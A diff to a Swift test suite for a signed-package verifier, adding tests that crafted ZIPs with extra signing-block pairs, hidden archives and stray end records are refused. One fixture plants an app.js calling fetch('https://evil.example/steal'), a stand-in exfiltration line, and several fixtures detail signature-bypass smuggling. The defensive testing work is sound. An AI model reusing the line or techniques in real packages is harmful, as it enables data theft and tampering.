@@ -46,20 +46,56 @@ struct ReaderDivergenceTests {
         let report = PackageVerifier.verify(signed, requireSignature: true)
         #expect(report.failureMessages == [])
         #expect(report.signed && report.signatureVerified && !report.signerAuthenticated)
-        let pinned = PackageVerifier.verify(signed, expectedPublicKey: SignedPackageSurgery.key.publicKeyDER, requireSignature: true)
+        let pinned = PackageVerifier.verify(signed, expected: ExpectedSigner(publicKey: SignedPackageSurgery.key.publicKeyDER), requireSignature: true)
         #expect(pinned.signed && pinned.signerAuthenticated)
     }
 
-    @Test func harmlessExtraFieldsAndAZeroPaddingPairPass() throws {
+    @Test func harmlessExtraFieldsPass() throws {
         var zip = Self.minimalApp()
         // Info-ZIP's extended timestamp (0x5455) and Unix owner (0x7875), as `zip` writes them.
         zip.entries[Self.app].localExtra = u16(0x5455) + u16(5) + [1] + u32(0) + u16(0x7875) + u16(11) + [1, 4] + u32(1000) + [4] + u32(1000)
         zip.entries[Self.app].centralExtra = u16(0x5455) + u16(5) + [1] + u32(0)
         let signed = try SignedPackageSurgery.sign(zip.bytes())
+        #expect(Self.failures(signed, requireSignature: true) == [])
+    }
+
+    // MARK: - A signing block holds one developer signature and nothing else
+
+    /// A signed package whose block holds `pairs` after (or instead of) its developer signature,
+    /// and where the first extra pair starts.
+    static func signedPackage(extraPairs: [(UInt32, [UInt8])]) throws -> (bytes: [UInt8], extraPairOffset: Int) {
+        let signed = try SignedPackageSurgery.sign(Self.minimalApp().bytes())
         let value = try SignedPackageSurgery.developerValue(of: signed)
-        let padded = try SignedPackageSurgery.replaceBlock(
-            of: signed, with: SignedPackageSurgery.block(pairs: [(SigningBlock.developerSignatureID, value), (SigningBlock.paddingID, [UInt8](repeating: 0, count: 40))]))
-        #expect(Self.failures(padded, requireSignature: true) == [])
+        let block = SignedPackageSurgery.block(pairs: [(SigningBlock.developerSignatureID, value)] + extraPairs)
+        let start = try ZipLayout.read(signed).entriesEnd
+        return (try SignedPackageSurgery.replaceBlock(of: signed, with: block), start + 8 + 12 + value.count)
+    }
+
+    @Test func aPaddingPairIsRefusedEvenWhenItIsZeros() throws {
+        // Anyone can add or remove one: the same signature would cover packages with two SHA-256s.
+        for padding in [[UInt8](repeating: 0, count: 40), [0], [UInt8](repeating: 0, count: 4096 - 12)] {
+            let (padded, offset) = try Self.signedPackage(extraPairs: [(SigningBlock.paddingID, padding)])
+            #expect(Self.failures(padded, requireSignature: true) == [
+                "the signing block holds a padding pair (0x42726577) of \(padding.count) bytes at offset \(offset); a package's block holds the developer signature alone, because any other pair can be added by anyone, or carry bytes no check reads",
+            ])
+        }
+    }
+
+    @Test func anUnknownPairIsRefusedWhateverItCarries() throws {
+        for (id, value) in [(UInt32(0x1337_0001), Array("any bytes at all".utf8)), (0x0100_0102, [UInt8](repeating: 0xAA, count: 300)), (0, [])] {
+            let (attacked, offset) = try Self.signedPackage(extraPairs: [(id, value)])
+            #expect(Self.failures(attacked) == [
+                "the signing block holds an unknown pair 0x\(String(id, radix: 16, uppercase: true)) of \(value.count) bytes at offset \(offset); a package's block holds the developer signature alone, because any other pair can be added by anyone, or carry bytes no check reads",
+            ])
+            #expect(Self.ids(attacked) == ["signature-block"])
+        }
+    }
+
+    @Test func aSecondDeveloperSignaturePairIsRefused() throws {
+        let signed = try SignedPackageSurgery.sign(Self.minimalApp().bytes())
+        let value = try SignedPackageSurgery.developerValue(of: signed)
+        let (twice, _) = try Self.signedPackage(extraPairs: [(SigningBlock.developerSignatureID, value)])
+        #expect(Self.failures(twice) == ["the signing block has 2 developer signatures; a package has one"])
     }
 
     // MARK: - A second archive hidden in the signing block
@@ -67,23 +103,20 @@ struct ReaderDivergenceTests {
     /// The first attack's shape: an unknown pair carries a local header, a central directory
     /// and an end record. The digest does not cover the block, so the signature still verifies.
     static func packageWithHiddenArchive() throws -> (bytes: [UInt8], pairOffset: Int, pairSize: Int) {
-        let signed = try SignedPackageSurgery.sign(Self.minimalApp().bytes())
         var hidden = Self.minimalApp()
         hidden.entries[Self.app] = Entry("app.js", "fetch('https://evil.example/steal')\n")
         let hiddenBytes = hidden.bytes()
-        let value = try SignedPackageSurgery.developerValue(of: signed)
-        let block = SignedPackageSurgery.block(pairs: [(SigningBlock.developerSignatureID, value), (0x1337_0001, hiddenBytes)])
-        let attacked = try SignedPackageSurgery.replaceBlock(of: signed, with: block)
-        let start = try ZipLayout.read(attacked).entriesEnd
-        return (attacked, start + 8 + 12 + value.count, hiddenBytes.count)
+        let (attacked, offset) = try Self.signedPackage(extraPairs: [(0x1337_0001, hiddenBytes)])
+        return (attacked, offset, hiddenBytes.count)
     }
 
     @Test func aHiddenCentralDirectoryInAnUnknownPairIsRefused() throws {
         let (attacked, pairOffset, pairSize) = try Self.packageWithHiddenArchive()
+        // Found by the search for hidden structure before the block is even parsed.
         #expect(Self.failures(attacked) == [
-            "the signing block holds an unknown pair 0x13370001 of \(pairSize) bytes at offset \(pairOffset); only the developer signature and zero padding are accepted, because bytes no check reads can carry a second archive",
+            "an end-record signature at offset \(pairOffset + 12 + pairSize - 22), inside the signing block; a package has one end record only, and a second one is read by some readers and not others",
         ])
-        #expect(Self.ids(attacked) == ["signature-block"])
+        #expect(Self.ids(attacked) == ["archive-hidden-structure"])
     }
 
     @Test func aHiddenCentralDirectoryWithAnEndRecordCommentIsRefused() throws {
@@ -99,8 +132,8 @@ struct ReaderDivergenceTests {
 
     /// An archive carried as the last entry's data, with absolute offsets and an end-record
     /// comment that runs to the end of the file: libzip weighs every end record it finds in
-    /// the last 64 KiB and keeps the most consistent one.
-    @Test func anArchiveHiddenInEntryDataIsNotReadByAnyReader() throws {
+    /// the last 64 KiB, and keeps the first of two equally consistent ones.
+    @Test func anArchiveHiddenInEntryDataWithOffsetsIntoThePackageIsRefused() throws {
         func outer(carrying hidden: [UInt8]) -> [UInt8] {
             Self.minimalApp(adding: [Entry(rawName: Array("assets/x.bin".utf8), content: hidden)]).bytes()
         }
@@ -115,12 +148,12 @@ struct ReaderDivergenceTests {
         hiddenBytes[hiddenBytes.count - 1] = UInt8(tail >> 8)
         let attacked = outer(carrying: hiddenBytes)
         #expect(attacked.count == placeholder.count)
-        let report = PackageVerifier.verify(attacked)
-        // Every reader, libzip included, takes the real end record: nothing diverges, and the
-        // hidden archive is data (one archive, not an archive of archives).
-        #expect(report.failureMessages == [])
-        let libzip = try ArchiveReader(bytes: attacked)
-        #expect(libzip.entries.map(\.name) == CraftedZip.minimalApp().entries.map { String(decoding: $0.name, as: UTF8.self) } + ["assets/x.bin"])
+        // Its end record points at a central directory in this very file: a reader could take it.
+        #expect(Self.failures(attacked) == [
+            "an end record at offset \(carrier.dataOffset + hiddenBytes.count - 22), inside the entries, points at a central directory in this file; libzip can take it for the package's own",
+        ])
+        // An archive carried as an asset with its own offsets is data, and passes.
+        #expect(Self.failures(outer(carrying: CraftedZip.minimalApp().bytes())) == [])
     }
 
     @Test func aSecondEndRecordInTheCommentIsRefused() throws {
@@ -133,7 +166,7 @@ struct ReaderDivergenceTests {
         zip.comment = u32(0x0605_4B50) + u16(0) + u16(0) + u16(6) + u16(6) + u32(UInt32(directorySize + 22))
             + u32(UInt32(layout.centralDirectoryOffset)) + u16(0)
         #expect(Self.failures(zip.bytes()) == [
-            "an end-record signature at offset \(layout.endRecordOffset), after the central directory's start; a package has one end record only, and a second one is read by some readers and not others",
+            "an end-record signature at offset \(layout.endRecordOffset), inside the central directory; a package has one end record only, and a second one is read by some readers and not others",
         ])
     }
 
@@ -146,7 +179,7 @@ struct ReaderDivergenceTests {
         let locator = u32(0x0706_4B50) + u32(0) + u64(UInt64(layout.endRecordOffset)) + u32(1)
         zip.insideDirectory = record + locator
         #expect(Self.failures(zip.bytes()) == [
-            "a ZIP64 end-record signature at offset \(layout.endRecordOffset), after the central directory's start; a package has one end record only, and a second one is read by some readers and not others",
+            "a ZIP64 end-record signature at offset \(layout.endRecordOffset), inside the central directory; a package has one end record only, and a second one is read by some readers and not others",
         ])
     }
 
@@ -363,8 +396,8 @@ struct ReaderDivergenceTests {
     @Test func trailingBytesInsideOrAfterTheSignerAreRefused() throws {
         let signed = try SignedPackageSurgery.sign(Self.minimalApp().bytes())
         let value = try SignedPackageSurgery.developerValue(of: signed)
-        let signer = try #require(try SigningBlock.signers(in: value[...]).first)
-        let signatures = SigningBlock.lengthPrefixed(signer.signatures.flatMap { SigningBlock.lengthPrefixed(u32($0.algorithm) + SigningBlock.lengthPrefixed($0.signature)) })
+        let signer = try SigningBlock.signer(in: value[...])
+        let signatures = SigningBlock.lengthPrefixed(SigningBlock.lengthPrefixed(u32(signer.algorithm) + SigningBlock.lengthPrefixed(signer.signature)))
         let signerBytes = SigningBlock.lengthPrefixed(signer.signedData) + signatures + SigningBlock.lengthPrefixed(signer.publicKey)
         let entriesEnd = try ZipLayout.read(signed).entriesEnd
         // The value starts after the block's size (8), the pair's size (8) and its id (4).
@@ -372,7 +405,7 @@ struct ReaderDivergenceTests {
 
         let inside = SigningBlock.lengthPrefixed(SigningBlock.lengthPrefixed(signerBytes + [1, 2, 3]))
         let insideAttack = try SignedPackageSurgery.replaceBlock(of: signed, with: SignedPackageSurgery.block(pairs: [(SigningBlock.developerSignatureID, inside)]))
-        #expect(Self.failures(insideAttack) == ["3 trailing bytes at offset \(valueOffset + 8 + signerBytes.count) in a signer, after its public key"])
+        #expect(Self.failures(insideAttack) == ["3 trailing bytes at offset \(valueOffset + 8 + signerBytes.count) in the signer, after its public key"])
 
         let after = SigningBlock.lengthPrefixed(SigningBlock.lengthPrefixed(signerBytes)) + [9, 9]
         let afterAttack = try SignedPackageSurgery.replaceBlock(of: signed, with: SignedPackageSurgery.block(pairs: [(SigningBlock.developerSignatureID, after)]))
